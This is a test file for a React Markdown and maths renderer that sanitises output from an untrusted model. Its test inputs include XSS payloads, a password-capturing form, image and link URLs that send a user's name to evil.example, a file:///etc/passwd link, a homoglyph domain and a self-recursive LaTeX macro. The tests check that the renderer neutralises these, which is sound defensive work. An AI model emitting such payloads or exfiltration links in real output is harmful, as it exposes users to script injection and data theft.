import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Citations } from "./Citation";
import { headingLevels, placeHeading } from "./headings";
import Markdown from "./Markdown";
import MathsMarkdown from "./MathsMarkdown";

const set = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
const setMaths = (text: string) => renderToStaticMarkup(<MathsMarkdown text={text} />);

describe("Markdown of a hostile model", () => {
  it.each([
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed">x</div>',
    "<svg onload=alert(1)>",
    '<form action="https://evil.example"><input name=password></form>',
  ])("shows raw HTML as text: %s", (html) => {
    expect(set(`before\n\n${html}\n\nafter ${html}`)).not.toMatch(/<(?:img|script|iframe|svg|form|input|div style|a )/);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://x/y",
    "/api/sign-out",
    "//evil.example",
    "https://user:secret@evil.example",
    "#user-content-x",
  ])("makes no link of %s", (href) => {
    expect(set(`[text](<${href}>) ![alt](<${href}>)`)).not.toMatch(/href|src=/);
  });

  it("loads no image, and says what it was", () => {
    const html = set("![a cat](https://evil.example/track.png?who=ben)");
    expect(html).not.toContain("<img");
    expect(html).toContain("a cat");
    expect(html).toContain("(evil.example/track.png?who=ben)");
  });

  it.each([
    ["https://evil.example/?q=my+name%20is%20Ben", "(evil.example/?q=my name is Ben)"],
    ["https://evil.example/my%20name%20is%20Ben", "(evil.example/my name is Ben)"],
    [`https://evil.example/${"a-".repeat(40)}`, `(evil.example/${"a-".repeat(40)})`],
    ["https://evil.example/#Ben", "(evil.example/#Ben)"],
    ["https://evil.example/wiki/Harbour", "(evil.example)"],
    ["mailto:a@evil.example?body=my%20name", "(a@evil.example, body=my name)"],
    ["https://evil.example/?q=%E2%80%AEneB%00", "(evil.example/?q=%E2%80%AEneB%00)"],
    [`https://evil.example/?q=${"x".repeat(400)}`, "… +116)"],
  ])("shows what a link carries: %s", (href, shown) => {
    expect(set(`[x](<${href}>)`)).toContain(shown);
  });

  it("says where a link leads, whatever its text claims", () => {
    const html = set("[https://bank.example](https://evil.example/login)");
    expect(html).toContain("(evil.example)");
    expect(html).toContain('title="https://evil.example/login"');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain('target="_blank"');
  });

  it("shows a name in foreign letters as the host that it is", () => {
    expect(set("[x](https://аpple.com)")).toContain("(xn--pple-43d.com)");
  });

  it.each(["mailto:%E0%A4%A", "mailto:%", "mailto:a%ffb@example.org", "https://example.org/%E0%A4%A"])(
    "sets a link whose address cannot be decoded: %s",
    (href) => {
      expect(set(`before [x](${href}) after`)).toContain("after");
    },
  );

  it("shows a table of very many cells as it was written", () => {
    const row = (cell: string, columns: number) => `|${cell.repeat(columns)}\n`;
    const source = row("a|", 700) + row("-|", 700) + "|b|\n".repeat(700);
    expect(set(source)).not.toContain("<td");
    expect(set(source)).toContain("|b|");
    expect(set(`> ${source.replaceAll("\n", "\n> ")}`)).not.toContain("<td");
    expect(set(row("a|", 9) + row("-|", 9) + "|b|\n".repeat(99))).toContain("<td");
  });

  it("does not say a host twice", () => {
    expect(set("https://example.org/")).not.toContain("(example.org)");
  });

  it("writes no style and no handler", () => {
    const html =
      set("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nx\n```") +
      setMaths("$$\\color{red}{x} \\href{javascript:alert(1)}{y}$$");
    expect(html).not.toMatch(/ on[a-z]+=|="javascript:/);
  });

  it("does not follow a formula into addresses or files", () => {
    expect(
      setMaths(
        "$$\\includegraphics{https://evil.example/x.png} \\href{https://evil.example}{x} \\url{https://evil.example}$$",
      ),
    ).not.toMatch(/href=|src=/);
  });

  it("ends on a formula that expands without end", () => {
    expect(setMaths("$$\\def\\a{\\a\\a}\\a$$")).toContain("formula-as-written");
  });
});

describe("Markdown", () => {
  it("sets formulas as MathML", () => {
    expect(setMaths("$$\nx^2\n$$")).toContain("<math");
  });

  it("shows a formula that is not whole as it was written", () => {
    expect(setMaths("$$\\frac{a}{$$")).toContain('<code class="formula-as-written">\\frac{a}{</code>');
  });

  it("sets headings below the page's own, without gaps", () => {
    const levels = headingLevels(["## a", "```\n# no\n```", "#### b"]);
    expect(levels).toBe("24");
    expect([placeHeading(2, levels), placeHeading(4, levels)]).toEqual([3, 4]);
  });

  it("makes a button of a mark that has a source, and of no other", () => {
    const citations = [
      { n: 1, file: "handbook.pdf", place: "page 3", quote: "…", used: true, marks: [], url: "", date: "" },
    ];
    const html = renderToStaticMarkup(
      <Citations value={citations}>
        <Markdown text="So it says [1], not [2]. `[1]`" />
      </Citations>,
    );
    expect(html.match(/Source 1: handbook\.pdf/g)).toHaveLength(2);
    expect(html).toContain("[2]");
    expect(html).toContain(">[1]</code>");
  });

  it("labels a block of code with its language", () => {
    expect(set("```python\nprint(1)\n```")).toContain("python");
  });
});
